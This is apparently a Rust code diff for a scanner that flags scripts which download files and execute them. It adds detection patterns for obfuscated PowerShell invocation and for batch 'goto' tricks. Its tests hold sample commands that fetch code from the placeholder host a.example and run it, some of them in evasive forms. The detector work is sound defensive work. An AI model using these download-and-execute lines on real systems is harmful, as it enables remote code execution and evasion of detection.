@@ -1,6 +1,6 @@
 //! What is fetched from the network, and whether it is run.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 use std::ops::Range;
 use std::sync::LazyLock;
 
@@ -10,6 +10,9 @@ use super::pattern::{Patterns, Wanted};
 
 /// How many names of fetched files are followed.
 const MAX_NAMES: usize = 100;
+
+/// What ends a command.
+const COMMAND_ENDS: [char; 8] = ['\n', '&', '|', ';', '(', ')', '{', '}'];
 
 /// What fetches.
 static FETCHES: LazyLock<Patterns> = LazyLock::new(|| {
@@ -37,8 +40,10 @@ static RUNS_ANYTHING: LazyLock<Patterns> = LazyLock::new(|| {
     Patterns::new([
         r"\b(?:iex|icm)\b",
         r"\b(?:invoke-expression|invoke-command|invokescript|invokecommand)\b|scriptblock\]::create|assembly\]::load",
+        r"&\s*\(\s*(?:gcm|get-command)\b[^\n)]*\*",
         r"\|\s*(?:powershell|pwsh|cmd|sh|bash|python)\b",
         r"\bdo\s+(?:@|call\s+|start\s+|cmd\s+/c\s+)*%%?[a-z]\b",
+        r#"&\s*["'(]*\$[\w:]+["')]*\s*\(*\s*(?:irm|iwr|invoke-webrequest|invoke-restmethod|new-object\s+[\w.]*webclient)\b"#,
         r"\b(?:os\.system|subprocess\.\w+|exec|eval|execglobal|executeglobal)\s*\(|\bexecute(?:global)?\s+\w",
     ])
 });
@@ -113,19 +118,28 @@ impl Written {
 }
 
 fn written(text: &str) -> Vec<Written> {
+    let jumps = text.contains("goto");
     let has_address = ["://", "-o", "bitsadmin", "savetofile", "downloadfile"].iter().any(|word| text.contains(word));
     if !has_address {
         return Vec::new();
     }
     let found = WRITTEN.iter().flat_map(|pattern| pattern.captures_iter(text).take(MAX_NAMES));
+    let mut first: BTreeMap<&str, usize> = BTreeMap::new();
     let files = found.filter_map(|found| {
         let path = found.get(1)?;
+        // What follows a later mention follows the first one as well.
+        if first.get(path.as_str()).is_some_and(|known| *known <= path.start()) {
+            return None;
+        }
+        first.insert(path.as_str(), path.start());
         let later = text.get(path.end()..)?;
+        // What comes before is run later where the text jumps back.
+        let before = text.get(..path.start()).and_then(|before| before.get(..before.rfind('\n')?)).unwrap_or_default();
         let name = name(path.as_str()).to_owned();
         let is_variable = path.as_str().starts_with('$');
         let is_started = match is_variable {
             true => ["& ", "&", ". "].iter().any(|call| later.contains(&format!("{call}{}", path.as_str()))),
-            false => starts(later, &name),
+            false => starts(behind_command(later), &name) || jumps && starts(before, &name),
         };
         let statements = later.split(['\n', '&', '|', ';']).skip(1);
         let is_named_again =
@@ -135,8 +149,13 @@ fn written(text: &str) -> Vec<Written> {
     files.collect()
 }
 
-/// Whether a later command is this file, or gives it to a program that runs it.
-fn starts(later: &str, file: &str) -> bool {
+/// What follows the command that a text begins in.
+fn behind_command(text: &str) -> &str {
+    text.find(COMMAND_ENDS).and_then(|end| text.get(end..)).unwrap_or_default()
+}
+
+/// Whether one of these commands is this file, or gives it to a program that runs it.
+fn starts(commands: &str, file: &str) -> bool {
     const BEFORE: [&str; 14] = [
         "start",
         "call",
@@ -172,7 +191,7 @@ fn starts(later: &str, file: &str) -> bool {
         return false;
     }
     let is_file = |word: &str| name(word) == file || name(word) == stem(file);
-    later.split(['\n', '&', '|', ';', '(', ')', '{', '}']).skip(1).any(|command| {
+    commands.split(COMMAND_ENDS).any(|command| {
         let words = command.split([' ', '"', '\'']).filter(|word| !word.is_empty());
         let words: Vec<&str> = words.skip_while(|word| BEFORE.contains(&word.trim_start_matches('@'))).collect();
         match words.as_slice() {
@@ -215,6 +234,9 @@ mod tests {
             "invoke-webrequest $u -outfile $f\nstart-process $f",
             "for /f %i in ('nslookup -q=txt a.example') do %i",
             "$x.load('http://a.example/a.xml');iex $x.a",
+            "& $s (irm http://a.example/a)",
+            "& (gcm i*e-ex*) (irm http://a.example/a)",
+            "goto x\n:y\ncall %temp%\\p.cmd\nexit\n:x\ncurl -o %temp%\\p.cmd http://a.example/p\ngoto y",
             "exec(urllib.request.urlopen('http://a.example').read())",
         ] {
             assert!(fetched(line).is_some() && is_run(&[line]), "{line}");
@@ -223,6 +245,7 @@ mod tests {
             "start /wait setup.exe /s\ncurl -o c:\\t\\readme.txt https://a.example/readme.txt",
             "iwr https://a.example/logo.png -outfile c:\\logo.png\nmsiexec /i app.msi /qn",
             "curl -o notes.pdf https://a.example/notes.pdf",
+            ":wait\nping -n 5 10.0.0.1\nif errorlevel 1 goto wait\ncurl -o c:\\t\\a.msi https://a.example/a.msi",
         ] {
             assert!(fetched(line).is_some() && !is_run(&[line]), "{line}");
         }
